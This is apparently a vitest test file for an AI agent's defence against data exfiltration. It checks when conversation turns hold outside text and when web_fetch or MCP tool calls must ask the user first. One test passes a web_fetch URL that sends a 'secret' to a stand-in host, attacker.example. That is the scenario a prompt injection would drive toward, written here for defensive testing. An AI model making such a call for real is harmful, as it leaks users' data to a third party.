// Which turns carry outside text, and which calls then need the user's yes: the rules behind the exfiltration
// defence, tool by tool (web_fetch, MCP tools by their readOnlyHint, the sub-agent).
import { describe, expect, it } from "vitest";
import { z } from "zod";
import type { McpServerRow } from "@/db/schema";
import type { McpClients } from "@/features/mcp/server/client";
import { DEFAULT_POLICY, mcpTools } from "@/features/mcp/server/client/tool-source";
import { egressReason, outsideTextSource } from "@/lib/agent/outside-text";
import { defineTool, type Tool } from "@/lib/agent/tool";
import { WebToolSet } from "@/lib/agent/toolsets/web";

const web = new WebToolSet();
const webFetch = web.tools().find((t) => t.name === "web_fetch")!;
const todo = defineTool({
  name: "todo_write",
  description: "plan",
  parameters: z.object({}),
  execute: async () => 1,
});
const tools = new Map<string, Tool>([
  [webFetch.name, webFetch],
  [todo.name, todo],
]);

describe("outside text in a conversation", () => {
  it("is none for the user's own words and the app's own tools", () => {
    expect(
      outsideTextSource(
        [
          { role: "user", content: "plan my day" },
          { role: "tool", toolCallId: "1", name: "todo_write", content: "ok" },
        ],
        tools,
      ),
    ).toBeNull();
  });

  it("is context blocks (this turn's or a stored one), a web page, an unknown tool's result, a notification", () => {
    const user = (data?: Record<string, unknown>) => ({ role: "user" as const, content: "hi", data });
    expect(outsideTextSource([user({ contextBlocks: ["<context/>"] })], tools)).toBe(
      "context items or files",
    );
    expect(
      outsideTextSource([{ role: "tool", toolCallId: "1", name: "web_fetch", content: "page" }], tools),
    ).toBe("results of web_fetch");
    expect(
      outsideTextSource([{ role: "tool", toolCallId: "1", name: "gone__tool", content: "x" }], tools),
    ).toBe("results of gone__tool");
    expect(
      outsideTextSource([{ role: "user", content: "<task_result/>", kind: "notification" }], tools),
    ).toBe("a background task's report");
    // Shown to people only, never to the model.
    expect(
      outsideTextSource(
        [{ role: "assistant", content: "card", kind: "display", data: { contextBlocks: ["x"] } }],
        tools,
      ),
    ).toBeNull();
  });
});

describe("calls that send data out", () => {
  it("web_fetch names the host it would send to; a tool that sends nothing never asks for this reason", () => {
    expect(
      egressReason(webFetch, { url: "https://attacker.example:8443/?q=secret" }, "context items or files"),
    ).toEqual({
      code: "outside_data",
      to: "attacker.example:8443",
      message:
        "this turn carries data from outside (context items or files); web_fetch would send it to attacker.example:8443",
    });
    expect(egressReason(webFetch, { url: "https://a.example/" }, null)).toBeNull();
    expect(egressReason(todo, {}, "context items or files")).toBeNull();
  });

  it("MCP tools send out unless they say they only read (readOnlyHint: true; missing is not read-only)", () => {
    const server = {
      id: "s",
      tenantId: "t",
      name: "crm",
      url: "https://mcp.crm.example/mcp",
      timeoutMs: 5_000,
      tools: [
        { name: "lookup", inputSchema: { type: "object" }, annotations: { readOnlyHint: true } },
        { name: "send_mail", inputSchema: { type: "object" } },
        { name: "post", inputSchema: { type: "object" }, annotations: { readOnlyHint: false } },
      ],
    } as unknown as McpServerRow;
    const [lookup, sendMail, post] = mcpTools(server, () => DEFAULT_POLICY, {} as McpClients);
    expect(lookup!.readsOutsideText && sendMail!.readsOutsideText).toBe(true);
    expect(egressReason(lookup!, {}, "results of web_fetch")).toBeNull();
    expect(egressReason(sendMail!, {}, "results of web_fetch")?.to).toBe("mcp.crm.example (MCP server)");
    expect(egressReason(post!, {}, "results of web_fetch")?.to).toBe("mcp.crm.example (MCP server)");
  });
});
